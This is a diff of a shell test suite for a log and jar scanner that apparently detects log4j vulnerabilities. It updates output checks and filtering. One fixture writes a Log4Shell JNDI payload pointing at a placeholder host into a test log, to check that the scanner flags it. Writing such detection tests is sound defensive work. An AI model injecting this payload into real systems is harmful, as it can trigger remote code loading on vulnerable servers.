@@ -11,6 +11,9 @@ bats_require_minimum_version 1.5.0
 setup_file() {
     make_fixtures
     export HOOK="$KENSA_BUILD/tests/helpers/kensa-scopehook.so"
+    # the hook is preloaded ahead of the sanitizer's runtime in an ASan
+    # build (make asan): let it
+    export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0"
 }
 
 # a folder of clean logs
@@ -42,7 +45,7 @@ clean_tree() {
         "$KENSA" logs --threads 1 --no-confine --json "$T"
     [ "$status" -eq 0 ]
     [ ! -e "$T/gone" ]
-    [ -z "$output" ]                           # no warning record either
+    only_run_record <<<"$output"               # no warning record either
     grep -q "Vanished while scanning (deleted after listing): 1" <<<"$stderr"
 }
 
@@ -94,7 +97,7 @@ clean_tree() {
     printf '# what not to scan\n\n*/skip/*\r\nc.jar\n' > "$BATS_TEST_TMPDIR/ex"
     run k log4j --json --exclude-from "$BATS_TEST_TMPDIR/ex" "$T"
     [ "$status" -eq 1 ]
-    [ "$(echo "$output" | jq -r 'select(.event.kind=="alert") | .kensa.path')" = "$T/keep/a.jar" ]
+    [ "$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path')" = "$T/keep/a.jar" ]
 }
 
 @test "--exclude-from refuses a missing file, a folder, long lines and NUL bytes" {
@@ -122,7 +125,7 @@ clean_tree() {
     cp "$FX/plain/log4j-core-2.14.1.jar" "$T/lib/cache"     # a file named cache
     run k log4j --json --exclude cache/ "$T"
     [ "$status" -eq 1 ]
-    [ "$(echo "$output" | jq -r 'select(.event.kind=="alert") | .kensa.path')" = "$T/lib/cache" ]
+    [ "$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path')" = "$T/lib/cache" ]
     run k log4j --json --exclude "$T/cache/" "$T"          # a full path
     [ "$(echo "$output" | count_alerts)" -eq 1 ]
     run k log4j --json --exclude cache "$T"                # no slash: both
@@ -155,7 +158,7 @@ teardown() {
         "$KENSA" log4j --threads 1 --json "$T"
     echo "$stderr"
     [ "$status" -eq 1 ]
-    [ "$(echo "$output" | jq -r 'select(.event.kind=="alert") | .kensa.path')" = "$T/local/b.jar" ]
+    [ "$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path')" = "$T/local/b.jar" ]
     grep -qxF "skipped network file system: $T/share (nfs)" <<<"$stderr"
     LD_PRELOAD="$HOOK" KENSA_FAKE_FS='share:6969' run \
         "$KENSA" log4j --threads 1 --json --no-summary --include-fs nfs4 "$T"
@@ -174,7 +177,7 @@ teardown() {
         "$KENSA" log4j --threads 1 --json "$T"
     echo "$stderr"
     [ "$status" -eq 0 ]
-    [ -z "$output" ]
+    only_run_record <<<"$output"
     grep -qE "^skipped network file system: $T/remote \(fuse" <<<"$stderr"
     LD_PRELOAD="$HOOK" KENSA_FAKE_FS='remote:65735546' run \
         "$KENSA" log4j --threads 1 --json --no-summary --include-fs fuse "$T"
@@ -195,7 +198,7 @@ teardown() {
     [ "$status" -eq 1 ]
     run --separate-stderr "$KENSA" logs --threads 1 --json "$T"
     [ "$status" -eq 1 ]
-    [ "$(echo "$output" | jq -r 'select(.event.kind=="alert") | .kensa.path')" = "$T/access.log" ]
+    [ "$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path')" = "$T/access.log" ]
     grep -q "kensa's own reports not scanned: 2" <<<"$stderr"
 }
 
@@ -213,7 +216,7 @@ teardown() {
     printf '{"observer":{"product":"kensa"},"m":"${jndi:ldap://third.example/c}"\n' > "$T/broken.log"
     run k logs --json "$T"
     [ "$status" -eq 1 ]
-    paths=$(echo "$output" | jq -r 'select(.event.kind=="alert") | .kensa.path' | sort -u)
+    paths=$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path' | sort -u)
     grep -qx "$T/mixed.log" <<<"$paths"
     grep -qx "$T/app.log" <<<"$paths"
     grep -qx "$T/broken.log" <<<"$paths"
